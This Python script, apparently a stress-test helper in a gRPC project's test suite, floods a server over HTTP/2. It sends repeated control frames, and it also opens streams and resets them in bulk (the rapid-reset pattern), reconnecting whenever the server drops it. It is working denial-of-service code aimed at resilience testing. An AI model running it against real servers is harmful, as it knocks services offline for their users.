"""Floods a gRPC server over one connection. Arguments: the kind, host, port and seconds. A process of its own."""

import socket
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import suppress

from support import http2 as h2
from support.calls import request

FRAMES = {
    "pings": h2.frame(h2.PING, payload=b"12345678"),
    "settings": h2.frame(h2.SETTINGS),
    "priorities": h2.frame(h2.PRIORITY, 1, b"\0\0\0\0\1"),
    "window-updates": h2.frame(h2.WINDOW_UPDATE, 0, b"\0\0\0\1"),
    "unknown-frames": h2.frame(0x42, 0, b"x"),
}
"""Frames that a flood repeats."""

_BODY = h2.message(request().SerializeToString())
STREAMS = {
    "resets": (h2.METHOD, b"", True),
    "resets-of-whole-calls": (h2.METHOD, _BODY, True),
    "resets-of-health": (b"/grpc.health.v1.Health/Check", b"", True),
    "resets-of-nothing": (b"/no/method", b"", True),
    "half-calls": (h2.METHOD, b"", False),
}
"""Streams that a flood opens: their path, their message, and whether it resets them."""
_AT_ONCE = 100


def _pieces(kind: str) -> Iterator[bytes]:
    """Yield the bytes of a flood, without end."""
    if kind in FRAMES:
        while True:
            yield FRAMES[kind] * _AT_ONCE
    path, body, resets = STREAMS[kind]
    fields, number = h2.request_fields(path=path), 1
    while True:
        piece = bytearray()
        for stream in range(number, number + 2 * _AT_ONCE, 2):
            piece += h2.headers(stream, fields)
            if body:
                piece += h2.data(stream, body)
            if resets:
                piece += h2.frame(h2.RST_STREAM, stream, b"\0\0\0\x08")
        number += 2 * _AT_ONCE
        yield bytes(piece)


def _discard(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(1 << 16):
            pass


def main() -> None:
    """Flood, and connect again whenever the server closes the connection; print the number of bytes and connections."""
    kind, host, port, seconds = sys.argv[1:]
    end, sent, connections = time.monotonic() + float(seconds), 0, 0
    while time.monotonic() < end:
        with suppress(OSError), socket.create_connection((host, int(port)), timeout=5) as connection:
            connections += 1
            connection.sendall(h2.PREFACE + h2.frame(h2.SETTINGS) + h2.frame(h2.SETTINGS, flags=h2.ACK))
            threading.Thread(target=_discard, args=(connection,), daemon=True).start()
            for piece in _pieces(kind):
                connection.sendall(piece)
                sent += len(piece)
                if time.monotonic() > end:
                    break
    print(f"{sent} bytes on {connections} connections")


if __name__ == "__main__":
    main()
